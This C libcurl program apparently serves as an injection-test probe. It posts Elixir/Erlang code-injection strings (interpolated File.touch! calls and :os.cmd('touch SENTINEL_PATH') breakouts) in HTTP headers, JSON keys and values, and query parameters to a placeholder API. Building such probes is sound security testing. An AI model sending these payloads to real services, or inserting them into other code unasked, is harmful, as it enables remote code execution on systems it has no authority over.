#include <curl/curl.h>
#include <stdio.h>
#include <string.h>

int main(void)
{
    CURL *curl = curl_easy_init();
    if (!curl)
        return 1;

    struct curl_slist *headers = NULL;
    headers = curl_slist_append(headers, "Content-Type: application/json");
    headers = curl_slist_append(headers, "Authorization: Bearer #{File.touch!(\"SENTINEL_PATH\")}");
    headers = curl_slist_append(headers, "X-Payload-0: #{File.touch!(\"SENTINEL_PATH\")}");
    headers = curl_slist_append(headers, "X-Payload-1: \\#{File.touch!(\"SENTINEL_PATH\")}");
    headers = curl_slist_append(headers, "X-Payload-2: \" <> File.touch!(\"SENTINEL_PATH\") <> \"");
    headers = curl_slist_append(headers, "X-Payload-3: '; :os.cmd('touch SENTINEL_PATH'); '");
    headers = curl_slist_append(headers, "X-Payload-4: \\\" <> :os.cmd(~c\"touch SENTINEL_PATH\") <> \\\"");

    const char *body =
        "{\n"
        "  \"values\": [\n"
        "    \"#{File.touch!(\\\"SENTINEL_PATH\\\")}\",\n"
        "    \"\\\\#{File.touch!(\\\"SENTINEL_PATH\\\")}\",\n"
        "    \"\\\" <> File.touch!(\\\"SENTINEL_PATH\\\") <> \\\"\",\n"
        "    \"'; :os.cmd('touch SENTINEL_PATH'); '\",\n"
        "    \"\\\\\\\" <> :os.cmd(~c\\\"touch SENTINEL_PATH\\\") <> \\\\\\\"\"\n"
        "  ],\n"
        "  \"keys\": {\n"
        "    \"#{File.touch!(\\\"SENTINEL_PATH\\\")}\": 0,\n"
        "    \"\\\\#{File.touch!(\\\"SENTINEL_PATH\\\")}\": 1,\n"
        "    \"\\\" <> File.touch!(\\\"SENTINEL_PATH\\\") <> \\\"\": 2,\n"
        "    \"'; :os.cmd('touch SENTINEL_PATH'); '\": 3,\n"
        "    \"\\\\\\\" <> :os.cmd(~c\\\"touch SENTINEL_PATH\\\") <> \\\\\\\"\": 4\n"
        "  },\n"
        "  \"nested\": {\n"
        "    \"deeper\": [\n"
        "      {\n"
        "        \"text\": \"#{File.touch!(\\\"SENTINEL_PATH\\\")} \\\\#{File.touch!(\\\"SENTINEL_PATH\\\")} \\\" <> File.touch!(\\\"SENTINEL_PATH\\\") <> \\\" '; :os.cmd('touch SENTINEL_PATH'); ' \\\\\\\" <> :os.cmd(~c\\\"touch SENTINEL_PATH\\\") <> \\\\\\\"\"\n"
        "      }\n"
        "    ]\n"
        "  }\n"
        "}";

    curl_easy_setopt(curl, CURLOPT_URL, "https://api.example.com/v1/payloads?value0=%23%7BFile.touch%21%28%22SENTINEL_PATH%22%29%7D&%23%7BFile.touch%21%28%22SENTINEL_PATH%22%29%7D=key0&value1=%5C%23%7BFile.touch%21%28%22SENTINEL_PATH%22%29%7D&%5C%23%7BFile.touch%21%28%22SENTINEL_PATH%22%29%7D=key1&value2=%22%20%3C%3E%20File.touch%21%28%22SENTINEL_PATH%22%29%20%3C%3E%20%22&%22%20%3C%3E%20File.touch%21%28%22SENTINEL_PATH%22%29%20%3C%3E%20%22=key2&value3=%27%3B%20%3Aos.cmd%28%27touch%20SENTINEL_PATH%27%29%3B%20%27&%27%3B%20%3Aos.cmd%28%27touch%20SENTINEL_PATH%27%29%3B%20%27=key3&value4=%5C%22%20%3C%3E%20%3Aos.cmd%28~c%22touch%20SENTINEL_PATH%22%29%20%3C%3E%20%5C%22&%5C%22%20%3C%3E%20%3Aos.cmd%28~c%22touch%20SENTINEL_PATH%22%29%20%3C%3E%20%5C%22=key4");
    curl_easy_setopt(curl, CURLOPT_HTTPHEADER, headers);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDSIZE, (long)strlen(body));

    CURLcode res = curl_easy_perform(curl);
    if (res != CURLE_OK)
        fprintf(stderr, "curl: %s\n", curl_easy_strerror(res));

    curl_slist_free_all(headers);
    curl_easy_cleanup(curl);
    return res == CURLE_OK ? 0 : 1;
}
